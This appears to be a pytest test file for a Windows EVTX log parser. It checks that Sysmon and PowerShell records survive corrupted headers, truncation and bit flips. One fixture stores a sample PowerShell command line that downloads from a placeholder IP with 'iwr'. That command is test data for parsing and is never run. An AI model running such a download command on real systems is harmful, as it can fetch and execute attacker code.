from __future__ import annotations

import random
import struct
import time
from pathlib import Path

import pytest

from evtx_writer import CHUNK, FIRST_RECORD, HEADER, Entry, evtx
from tidewaiter.errors import UnrecognisedError
from tidewaiter.formats.windows import recognise
from tidewaiter.formats.windows_records import NO_USE
from windows_inputs import read


def sysmon(event_id: int, record_id: int, **data: str) -> Entry:
    time_text = f"2026-03-01 10:00:{record_id % 60:02}.250"
    values = {"UtcTime": time_text, "Image": "C:\\Users\\ann\\app.exe", **data}
    return Entry("Microsoft-Windows-Sysmon", event_id, record_id, values, computer="ws01.example.com")


def drops(count: int) -> list[Entry]:
    return [sysmon(11, 500 + number, TargetFilename=f"C:\\drop\\{number}.bin") for number in range(count)]


def record_starts(content: bytes, chunk: int = 0) -> list[int]:
    at, found = HEADER + chunk * CHUNK + FIRST_RECORD, []
    while content[at : at + 4] == b"**\0\0":
        found.append(at)
        at += struct.unpack_from("<I", content, at + 4)[0]
    return found


def paths(content: bytes, folder: Path) -> list[str]:
    return [event.file_path or "" for event in read(folder, content)[0]]


def test_every_record_comes_out_once_and_in_order(tmp_path: Path) -> None:
    events, account = read(tmp_path, evtx(drops(130)))
    assert [event.record for event in events] == [str(500 + number) for number in range(130)]
    assert (account.read, account.parsed, account.damaged) == (130, 130, 0)
    assert account.recognised_as == "EVTX"
    assert events[0].host == "ws01.example.com"
    assert account.kinds == {"windows_sysmon:file_create": 130}
    assert (account.first, account.last) == (min(e.time for e in events), max(e.time for e in events))


def test_unwanted_records_are_counted_and_wanted_ones_between_them_found(tmp_path: Path) -> None:
    entries = [sysmon(11 if number % 7 == 3 else 10, number, TargetFilename=f"C:\\drop\\{number}.bin") for number in range(100)]
    events, account = read(tmp_path, evtx(entries))
    assert [event.record for event in events] == [str(number) for number in range(100) if number % 7 == 3]
    assert account.skipped == {NO_USE: 100 - len(events)}
    assert account.read == 100


def test_wanted_event_id_of_another_provider_is_of_no_use(tmp_path: Path) -> None:
    events, account = read(tmp_path, evtx([Entry("Contoso-App", 11, 1, {"TargetFilename": "C:\\a.bin"})]))
    assert events == []
    assert account.skipped == {NO_USE: 1}


def test_forwarded_events_keep_the_host_of_their_record(tmp_path: Path) -> None:
    entries = drops(2)
    entries[1].computer = "srv02.example.com"
    assert [event.host for event in read(tmp_path, evtx(entries))[0]] == ["ws01.example.com", "srv02.example.com"]


def test_unnamed_values_are_read(tmp_path: Path) -> None:
    context = "\tHostName=ConsoleHost\r\n\tHostId=1\r\n\tHostApplication=powershell.exe -nop -c iwr http://192.0.2.1/a\r\n\tCommandLine="
    events, _ = read(tmp_path, evtx([Entry("PowerShell", 400, 1, {"0": "Available", "1": "None", "2": context})]))
    assert [event.command_line for event in events] == ["powershell.exe -nop -c iwr http://192.0.2.1/a"]


@pytest.mark.parametrize("bad", [0, 3, 49])
@pytest.mark.parametrize("size", [0, 20, 0x7FFFFFFF, 0xFFFFFFFF])
def test_a_wrong_size_costs_one_record(tmp_path: Path, bad: int, size: int) -> None:
    content = bytearray(evtx(drops(100)))
    struct.pack_into("<I", content, record_starts(bytes(content))[bad] + 4, size)
    events, account = read(tmp_path, bytes(content))
    found = {event.record for event in events}
    assert {str(500 + number) for number in range(100)} - found <= {str(500 + bad)}
    assert account.damaged >= 1
    assert account.damage[0].place.startswith("byte ")


def test_a_bad_first_record_does_not_hide_the_rest(tmp_path: Path) -> None:
    content = bytearray(evtx(drops(100)))
    start = record_starts(bytes(content))[0]
    content[start : start + 30] = b"\xff" * 30
    events, account = read(tmp_path, bytes(content))
    assert {event.record for event in events} >= {str(500 + number) for number in range(1, 100)}
    assert account.damaged == 1


def test_undecodable_content_costs_one_record(tmp_path: Path) -> None:
    content = bytearray(evtx(drops(100)))
    start = record_starts(bytes(content))[5]
    content[start + 24 : start + 60] = b"\xff" * 36
    events, account = read(tmp_path, bytes(content))
    assert len(events) == 99
    assert account.damaged == 1
    assert account.damage[0].place == f"byte {start}"


def test_chunk_without_its_magic_is_still_read(tmp_path: Path) -> None:
    content = bytearray(evtx(drops(150)))
    content[HEADER : HEADER + 8] = b"notachnk"
    events, account = read(tmp_path, bytes(content))
    assert len(events) == 150
    assert account.damage[0].place == f"byte {HEADER}"


def test_a_chunk_of_garbage_costs_that_chunk(tmp_path: Path) -> None:
    content = bytearray(evtx(drops(150)))
    content[HEADER : HEADER + CHUNK] = random.Random(1).randbytes(CHUNK)
    events, account = read(tmp_path, bytes(content))
    assert [event.record for event in events] == [str(500 + number) for number in range(50, 150)]
    assert account.damaged >= 1


def test_damaged_file_header_is_not_needed(tmp_path: Path) -> None:
    content = bytearray(evtx(drops(10)))
    content[:HEADER] = bytes(HEADER)
    assert recognise(bytes(content[:65_536]))
    events, account = read(tmp_path, bytes(content))
    assert len(events) == 10
    assert account.damage[0].place == "byte 0"


def test_header_that_counts_too_few_records_hides_none(tmp_path: Path) -> None:
    content = bytearray(evtx(drops(50)))
    starts = record_starts(bytes(content))
    struct.pack_into("<Q", content, HEADER + 16, 10)
    assert len(paths(bytes(content), tmp_path)) == 50
    struct.pack_into("<I", content, HEADER + 48, starts[10] - HEADER)  # not flushed when the file was copied
    assert len(paths(bytes(content), tmp_path)) == 50


def test_what_earlier_use_left_in_a_chunk_is_no_record(tmp_path: Path) -> None:
    content = bytearray(evtx(drops(50)))
    starts = record_starts(bytes(content))
    struct.pack_into("<QQQQ", content, HEADER + 8, 61, 70, 61, 70)
    struct.pack_into("<I", content, HEADER + 48, starts[10] - HEADER)
    for number, start in enumerate(starts[:10], 61):
        struct.pack_into("<Q", content, start + 8, number)
    events, account = read(tmp_path, bytes(content))
    assert (len(events), account.damaged) == (10, 0)


def test_unused_space_is_no_damage(tmp_path: Path) -> None:
    events, account = read(tmp_path, evtx(drops(3)) + bytes(4 * CHUNK))
    assert (len(events), account.damaged) == (3, 0)


def test_header_only(tmp_path: Path) -> None:
    events, account = read(tmp_path, evtx([]))
    assert (events, account.read) == ([], 0)


def test_empty_file_is_not_recognised(tmp_path: Path) -> None:
    assert recognise(b"") is None
    with pytest.raises(UnrecognisedError):
        read(tmp_path, b"")


@pytest.mark.parametrize("table", [128, 384])
def test_a_list_in_a_chunk_header_that_is_a_ring_hangs_nothing(tmp_path: Path, table: int) -> None:
    content = bytearray(evtx(drops(20)))
    at = CHUNK - 200
    struct.pack_into("<I", content, HEADER + table, at)
    struct.pack_into("<IHH", content, HEADER + at, at, 0, 1)
    assert len(paths(bytes(content), tmp_path)) == 20


def test_cut_off_anywhere(tmp_path: Path) -> None:
    content = evtx(drops(70))
    whole = paths(content, tmp_path)
    starts = record_starts(content)
    chance = random.Random(7)
    for length in [8, 100, 4095, 4096, 4097, 4600, starts[1], starts[1] + 10, len(content) - 1] + [
        chance.randrange(8, len(content)) for _ in range(40)
    ]:
        found = paths(content[:length], tmp_path)
        assert found == whole[: len(found)]
        complete = sum(1 for start in starts[1:] if start <= length)
        assert len(found) >= min(complete, 49)


def test_flipped_bits_anywhere(tmp_path: Path) -> None:
    content = evtx([*drops(40), *(sysmon(10, number, Other="x") for number in range(40))])
    chance = random.Random(11)
    begun = time.process_time()
    for _ in range(60):
        flipped = bytearray(content)
        for _ in range(chance.choice((1, 4, 64))):
            flipped[chance.randrange(HEADER, len(flipped))] ^= 1 << chance.randrange(8)
        _, account = read(tmp_path, bytes(flipped))
        assert account.read >= 80 - 64
    assert time.process_time() - begun < 20


def test_a_time_that_is_none_costs_nothing(tmp_path: Path) -> None:
    content = bytearray(evtx(drops(100)))
    start = record_starts(bytes(content))[4]
    content[start + 16 : start + 24] = b"\xff" * 8
    events, account = read(tmp_path, bytes(content))
    assert (len(events), account.damaged) == (100, 0)
